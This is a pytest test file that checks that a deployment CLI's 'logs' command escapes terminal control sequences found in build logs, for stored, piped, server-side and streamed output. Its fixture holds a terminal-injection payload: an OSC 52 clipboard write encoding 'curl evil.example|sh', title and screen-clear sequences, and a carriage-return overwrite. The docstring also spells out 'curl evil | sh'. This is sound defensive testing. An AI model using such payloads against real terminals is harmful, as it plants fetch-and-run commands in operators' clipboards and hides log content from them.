"""`reconciler logs` is safe on a terminal.

A deployment's log is what the app's scripts printed: whoever pushes to the app repository
chooses it. Before the fix `reconciler logs` wrote it to the terminal as it was, so a build that
printed `ESC ] 52 ; c ; <base64> BEL` put `curl evil | sh` into the operator's clipboard (kitty
allows OSC 52 by default), `ESC ] 0 ;` retitled the window and `ESC [ 2 J` cleared the screen.

Now every control character but newline and tab is shown escaped (`\\x1b`, `\\x07`, `\\r`,
`\\x9b`), from the stored log and from the live stream (`-f`, and the server's deployment.log
when there is no local copy) alike, on a terminal and when piped (`logs | tail` ends on a
terminal too); `--raw` writes the text as it is. Real sites on the local transport, real builds,
the real CLI as its own process with its stdout on a real pseudo-terminal (raw mode, so the
bytes read are the bytes written: no CR added to each newline).
"""

from __future__ import annotations

import contextlib
import os
import pty
import select
import shutil
import time
import tty
from pathlib import Path

import pytest

from tests.support import reconciler_process
from tests.support.world import World, neutral_world

# A window title, an OSC 52 clipboard write of "curl evil.example|sh", a screen clear, a C1 CSI
# (U+009B, two bytes in UTF-8) that clears it too, a carriage return that would hide "REAL" under
# "FAKE", DEL; and a tab, which is layout and stays.
EVIL = r"\033]0;PWNED-TITLE\007\033]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\007\033[2J\302\2332J REAL\rFAKE\177"
SCRIPT = f"printf '%b' \"{EVIL} all good\\tcolumn\\n\""
SHOWN = ["\\x1b]0;PWNED-TITLE\\x07", "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07", "\\x1b[2J", "\\x9b2J", "REAL",
         "FAKE\\x7f", "all good\tcolumn"]
TIMEOUT = 60.0


@pytest.fixture(name="world")
def world_fixture(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    return neutral_world(tmp_path, monkeypatch)


def _controls(text: str) -> list[str]:
    """The characters a terminal acts on (C0 but newline and tab, DEL, C1), as escapes."""
    return [repr(ch) for ch in text if (ord(ch) < 32 and ch not in "\n\t") or 0x7f <= ord(ch) <= 0x9f]


class Terminal:
    """`reconciler ARGS` with its stdout (and stderr) on a fresh pseudo-terminal in raw mode."""

    def __init__(self, world: World, *args: str) -> None:
        self.main, other = pty.openpty()
        tty.setraw(other)
        self.proc = reconciler_process(*world.flags(), *args, cwd=world.tmp, stdout=other, stderr=other, text=False)
        os.close(other)
        self.seen = b""

    def read_until(self, marker: bytes | None, timeout: float = TIMEOUT) -> str:
        """What the terminal showed until `marker` appeared, or (None) until the process closed it."""
        deadline = time.monotonic() + timeout
        while marker is None or marker not in self.seen:
            if time.monotonic() > deadline:
                self.proc.kill()
                pytest.fail(f"the terminal never showed {marker!r}: {self.seen!r}", pytrace=False)
            ready, _, _ = select.select([self.main], [], [], 0.2)
            if not ready:
                continue
            try:
                chunk = os.read(self.main, 65536)
            except OSError:  # EIO: every writer closed the terminal
                chunk = b""
            if not chunk:
                if marker is None:
                    break
                pytest.fail(f"the terminal closed before {marker!r}: {self.seen!r}", pytrace=False)
            self.seen += chunk
        return self.seen.decode("utf-8", errors="replace")

    def close(self) -> int:
        try:
            return self.proc.wait(timeout=TIMEOUT)
        finally:
            with contextlib.suppress(OSError):
                os.close(self.main)


def _on_terminal(world: World, *args: str) -> tuple[int, str]:
    terminal = Terminal(world, *args)
    shown = terminal.read_until(None)
    return terminal.close(), shown


def _deployed(world: World) -> None:
    world.declare(script=SCRIPT, trace=False)
    rc, out, err = world.run_cli("reconcile")
    assert rc == 0, (out, err)


def test_the_stored_log_is_escaped_on_a_terminal(world: World) -> None:
    _deployed(world)
    rc, shown = _on_terminal(world, "logs", world.domain)
    assert rc == 0, shown
    assert _controls(shown) == [], shown
    for part in SHOWN:
        assert part in shown, (part, shown)


def test_raw_writes_the_sequences_as_they_are(world: World) -> None:
    _deployed(world)
    rc, shown = _on_terminal(world, "logs", world.domain, "--raw")
    assert rc == 0, shown
    for part in ("\x1b]0;PWNED-TITLE\x07", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07", "\x1b[2J\x9b2J REAL",
                 "FAKE\x7f"):
        assert part in shown, (part, shown)


def test_piped_output_is_escaped_too(world: World) -> None:
    """`logs | tail`, `| grep`, `| less -R` write to the terminal as well: only --raw keeps bytes."""
    _deployed(world)
    done = world.run_cli_process("logs", world.domain)
    assert done.returncode == 0, done.stderr
    assert _controls(done.stdout) == [], done.stdout
    assert all(part in done.stdout for part in SHOWN), done.stdout
    raw = world.run_cli_process("logs", world.domain, "--raw")
    assert "\x1b]52;c;" in raw.stdout


def test_the_servers_log_is_escaped_when_there_is_no_local_copy(world: World) -> None:
    """After a database rebuild the log is read from the server's deployment.log (the stream)."""
    _deployed(world)
    shutil.rmtree(world.state)
    rc, out, err = world.run_cli("reconcile")  # rebuilds the database from the server, deploys nothing
    assert rc == 0, (out, err)
    rc, shown = _on_terminal(world, "logs", world.domain)
    assert rc == 0, shown
    assert "all good\tcolumn" in shown, shown
    assert _controls(shown) == [], shown
    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07" in shown


def test_following_a_running_deployment_is_escaped_as_it_streams(world: World) -> None:
    gate = world.tmp / "gate"
    script = f"{SCRIPT}\necho first-part\nwhile [ ! -e {gate} ]; do sleep 0.1; done\n{SCRIPT}\necho second-part\n"
    # A multi-line script is written as a TOML multi-line basic string, where \ escapes.
    world.declare(script=script.replace("\\", "\\\\"), trace=False)
    deploy = reconciler_process(*world.flags(), "reconcile", cwd=world.tmp)
    try:
        deadline = time.monotonic() + TIMEOUT
        log = None
        while log is None or "first-part" not in log.read_text(errors="replace"):
            assert time.monotonic() < deadline and deploy.poll() is None, deploy.communicate(timeout=TIMEOUT)
            time.sleep(0.1)
            log = next(iter(world.deployments().glob("*/deployment.log")), None)
        follower = Terminal(world, "logs", world.domain, "-f")
        first = follower.read_until(b"first-part")
        assert follower.proc.poll() is None, "-f keeps following while the deployment runs"
        assert _controls(first) == [], first
        assert "\\x1b]52;c;" in first
        gate.write_text("")
        shown = follower.read_until(None)
        assert follower.close() == 0, shown
        assert "second-part" in shown and shown.count("\\x1b]52;c;") == 2, shown
        assert _controls(shown) == [], shown
    finally:
        gate.write_text("")
        deploy.communicate(timeout=TIMEOUT)
    assert deploy.returncode == 0
